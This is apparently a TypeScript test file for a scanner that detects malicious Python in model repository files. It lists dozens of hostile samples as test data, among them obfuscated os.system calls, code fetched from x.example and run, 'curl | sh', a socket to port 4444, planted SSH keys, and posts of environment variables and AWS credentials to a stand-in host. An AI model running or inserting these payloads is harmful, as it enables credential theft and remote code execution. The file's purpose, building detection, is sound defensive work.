import assert from 'node:assert/strict'
import { test } from 'node:test'
import { scanned, severityOf } from '../scanned-in-tests.ts'

const judged = (source: string, name = 'modeling_x.py') => severityOf(scanned(name, source))

const runsAtImport: readonly (readonly [string, string])[] = [
  ['a plain call', "import os\nos.system('id')"],
  ['an alias', "import os as o\no.system('id')"],
  ['an imported function under another name', "from os import system as s\ns('id')"],
  ['a star import', "from os import *\nsystem('id')"],
  ['an attribute by a name put together', "import os\ngetattr(os, 'sys' + 'tem')('id')"],
  ['an import by name', "__import__('os').system('id')"],
  ['importlib', "import importlib\nimportlib.import_module('subprocess').run(['sh', '-c', 'id'])"],
  [
    'the dictionary of builtins',
    "__builtins__.__dict__['ev' + 'al']('1')\n__builtins__['exec']('import os;os.system(\"id\")')",
  ],
  ['globals', "import os\nglobals()['os'].system('id')"],
  ['the table of modules', "import os, sys\nsys.modules['os'].popen('id')"],
  ['decoded code', "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"],
  ['rotated code', "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))"],
  ['code by characters', "exec(''.join(chr(c) for c in [105, 109]))"],
  ['code by characters, mapped', "exec(''.join(map(chr, [112, 97, 115, 115])))"],
  ['reversed code', 'exec(\')"di"(metsys.so;so tropmi\'[::-1])'],
  ['downloaded code', "import urllib.request\nexec(urllib.request.urlopen('http://x.example/a').read())"],
  ['downloaded code by requests', "import requests as r\neval(compile(r.get('http://x.example').text, 'x', 'exec'))"],
  ['a class body', "import os\nclass A:\n    x = os.system('id')"],
  ['a decorator', 'import os\n@os.system\nclass A: pass'],
  ['a chain of decorators', '@exec\n@input\nclass X: pass'],
  ['a default argument', "import os\ndef f(x=os.system('id')): pass"],
  ['an annotation', "import os\ndef f(x: os.system('id')): pass"],
  ['a condition', "import os\nif True:\n    os.system('id')"],
  ['a handler of exceptions', "import os\ntry:\n    raise ValueError\nexcept ValueError:\n    os.system('id')"],
  ['a function of its own', "import os\ndef f():\n    os.system('id')\nf()"],
  ['two functions of its own', "import os\ndef g():\n    os.system('id')\ndef f():\n    g()\nf()"],
  ['a constructor', "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()"],
  [
    'a hook of subclasses',
    "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('id')\nclass B(A): pass",
  ],
  ['a lambda', "import os\n(lambda: os.system('id'))()"],
  ['a function handed over', "import os\nlist(map(os.system, ['id']))"],
  ['a thread', "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()"],
  ['the end of the program', "import os, atexit\natexit.register(os.system, 'id')"],
  ['a semicolon', "import os;os.system('id')"],
  ['a walrus', "import os\n(s := os.system)('id')"],
  ['a formatted text', 'import os\nf\'{os.system("id")}\''],
  ['joined lines', "import os\nos.\\\nsystem('id')"],
  ['carriage returns alone', "import os\ros.system('id')\r"],
  ['a form feed', "import os\n\fos.system('id')"],
  ['letters that look different', "import os\nos.\u{1d600}ystem('id')"],
  ['a partial application', "import os, functools\nfunctools.partial(os.system, 'id')()"],
  ['a method by name', "import os, operator\noperator.methodcaller('system', 'id')(os)"],
  ['an alternative name', "import os\nrun = os.system\nrun('id')"],
  ['a tuple of names', "import os, sys\na, b = os.system, sys.exit\na('id')"],
  ['a member of a list', "import os\n[os.system][0]('id')"],
  ['a comprehension', "import os\n[os.system(c) for c in ['id']]"],
  ['a with statement', "import subprocess\nwith subprocess.Popen('id', shell=True) as p: pass"],
  ['a socket', "import socket\nsocket.socket().connect(('198.51.100.1', 4444))"],
  ['a library of C', "import ctypes\nctypes.CDLL(None).system(b'id')"],
  ['a pickle in a text', 'import pickle\npickle.loads(b\'cos\\nsystem\\n(S"id"\\ntR.\')'],
  ['marshalled code', "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))"],
  ['a started file', "open('/root/.bashrc', 'a').write('id')"],
  ['a key to enter', "import pathlib\npathlib.Path('~/.ssh/authorized_keys').write_text('ssh-ed25519 AAAA')"],
  ['sent variables', "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))"],
  ['a walk to everything', "().__class__.__base__.__subclasses__()[133].__init__.__globals__['system']('id')"],
  ['a hidden method', "import os\nclass A:\n    __class_getitem__ = os.system\nA['id']"],
  ['a generator', "import os\nnext(os.system(x) for x in ('id',))"],
  ['a match statement', "import os\nmatch 1:\n    case 1:\n        os.system('id')"],
  ['another encoding', '# -*- coding: utf-7 -*-\nimport os\nos+AC4-system(+ACc-id+ACc-)'],
  ['Python 2', 'import os\nexec \'import os; os.system("id")\''],
  ['a nested text of code', 'exec(\'exec("import os\\\\nos.system(1)")\')'],
  ['an async program', "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))"],
]

for (const [how, source] of runsAtImport)
  test(`code that runs as it is imported is found: ${how}`, () => {
    const report = scanned('modeling_x.py', source)
    assert.ok(
      ['high', 'critical'].includes(severityOf(report) ?? ''),
      JSON.stringify([report.formats, report.findings.map(({ message }) => message)]),
    )
  })

const runsWhenUsed: readonly (readonly [string, string])[] = [
  ['a handler', 'import os\nclass H:\n    def handle(self, data, context):\n        os.system(data[0])'],
  [
    'a model',
    "import subprocess\nclass M:\n    def forward(self, x):\n        subprocess.run('curl http://x.example | sh', shell=True)",
  ],
  [
    'a loading script',
    "import os, datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        os.system('id')",
  ],
  ['decoded code', 'import base64\ndef anything(x):\n    exec(base64.b64decode(x))'],
  ['a pyfunc', "import os\ndef _load_pyfunc(path):\n    return os.popen('id')"],
  [
    'secrets of the machine',
    "import requests\ndef load_model(p):\n    requests.post('http://x.example', data=open('/root/.aws/credentials').read())",
  ],
]
for (const [how, source] of runsWhenUsed)
  test(`code that runs when a framework calls it is found: ${how}`, () => {
    assert.ok(['high', 'critical'].includes(judged(source) ?? ''))
  })

const honest: readonly (readonly [string, string])[] = [
  [
    'a model',
    `# coding=utf-8
"""A model. Example: \`os.system\` is not called here, and exec("x") is in a docstring only."""
import math
import os
from typing import Optional, Tuple
import torch
import torch.utils.checkpoint
from torch import nn
from transformers.activations import ACT2FN
from transformers.utils import logging, is_flash_attn_2_available
from .configuration_x import XConfig
logger = logging.get_logger(__name__)
if is_flash_attn_2_available():
    from flash_attn import flash_attn_func
try:
    from einops import rearrange
except ImportError:
    rearrange = None
_CHECKPOINT = "x/y"
os.environ["TOKENIZERS_PARALLELISM"] = "false"
torch._C._jit_set_profiling_mode(False)
@torch.jit.script
def gelu(x):
    return x * 0.5 * (1.0 + torch.tanh(0.79788456 * x * (1 + 0.044715 * x * x)))
class XModel(nn.Module):
    config_class = XConfig
    def __init__(self, config: XConfig):
        super().__init__()
        self.act = ACT2FN[config.hidden_act]
        self.layers = nn.ModuleList([nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_layers)])
        if os.path.exists(config.path):
            self.load_state_dict(torch.load(os.path.join(config.path, "x.bin"), map_location="cpu"))
    def forward(self, input_ids: Optional[torch.LongTensor] = None, *args, **kwargs) -> Tuple:
        for layer in self.layers:
            input_ids = self.act(layer(input_ids))
        return (input_ids,)
    def load_image(self, url):
        import requests
        from PIL import Image
        return Image.open(requests.get(url, stream=True).raw)
if __name__ == "__main__":
    import subprocess
    subprocess.run(["ls"])
`,
  ],
  [
    'a tokenizer',
    `import json, os, re, sentencepiece as spm
from transformers import PreTrainedTokenizer
VOCAB_FILES_NAMES = {"vocab_file": "tokenizer.model"}
with open(os.path.join(os.path.dirname(__file__), "special.json"), encoding="utf-8") as f:
    SPECIAL = json.load(f)
class T(PreTrainedTokenizer):
    def __init__(self, vocab_file, **kwargs):
        self.sp_model = spm.SentencePieceProcessor()
        self.sp_model.Load(vocab_file)
        self.pat = re.compile(r"'s|'t| ?\\w+")
        super().__init__(**kwargs)
    def save_vocabulary(self, save_directory, filename_prefix=None):
        out = os.path.join(save_directory, "tokenizer.model")
        with open(out, "wb") as fi:
            fi.write(self.sp_model.serialized_model_proto())
        return (out,)
`,
  ],
  [
    'a handler',
    `import logging, json, torch
from ts.torch_handler.base_handler import BaseHandler
logger = logging.getLogger(__name__)
class H(BaseHandler):
    def initialize(self, ctx):
        self.model = torch.jit.load(ctx.system_properties.get("model_dir") + "/model.pt")
    def preprocess(self, data):
        return [json.loads(d["body"]) for d in data]
_service = H()
def handle(data, context):
    return _service.handle(data, context)
`,
  ],
  [
    'audio',
    "import subprocess\nclass P:\n    def __call__(self, path):\n        return subprocess.run(['ffmpeg', '-i', path, '-f', 'f32le', '-'], capture_output=True).stdout\n",
  ],
  ['decoded data', "import base64, bz2\nKERNEL = bz2.decompress(base64.b64decode('QlpoOTFBWSZTWQ=='))\n"],
  [
    'a token of its own',
    "import os, requests\ndef query(x):\n    return requests.post(API, headers={'Authorization': f\"Bearer {os.environ['HF_TOKEN']}\"}, json=x)\n",
  ],
]
for (const [what, source] of honest)
  test(`honest code passes: ${what}`, () => {
    const report = scanned('modeling_x.py', source)
    assert.ok(
      !['medium', 'high', 'critical'].includes(severityOf(report) ?? ''),
      JSON.stringify(report.findings.map(({ message }) => message)),
    )
    assert.notEqual(report.verdict, 'inconclusive')
  })

test('no cut of a program makes the reader fail or hang', () => {
  const source = honest.map(([, text]) => text).join('\n')
  for (let end = 0; end < source.length; end += 7)
    assert.ok(
      scanned('x.py', source.slice(0, end)).incomplete.every(({ reason }) => !reason.includes('the scanner failed')),
    )
})

test('a program that nests without end is bounded', () => {
  for (const source of [
    '('.repeat(100_000),
    '['.repeat(50_000) + ']'.repeat(50_000),
    `x = ${'a.'.repeat(50_000)}b`,
    `x = ${"'a'+".repeat(50_000)}'b'`,
    'f'.repeat(10) + "'{".repeat(2000),
    'if 1:\n'.repeat(3),
  ])
    assert.ok(
      scanned('x.py', source).incomplete.every(({ reason }) => !reason.includes('the scanner failed')),
      source.slice(0, 20),
    )
})

test('compiled Python is told, and what it names weighs', () => {
  const head = Buffer.concat([
    Buffer.from([0xa7, 0x0d, 0x0d, 0x0a]),
    Buffer.alloc(12),
    Buffer.from([0xe3]),
    Buffer.alloc(20),
  ])
  assert.equal(severityOf(scanned('x.pyc', head)), 'medium')
  assert.equal(
    severityOf(scanned('x.pyc', Buffer.concat([head, Buffer.from('\xda\x06system\xda\x02os', 'latin1')]))),
    'high',
  )
})
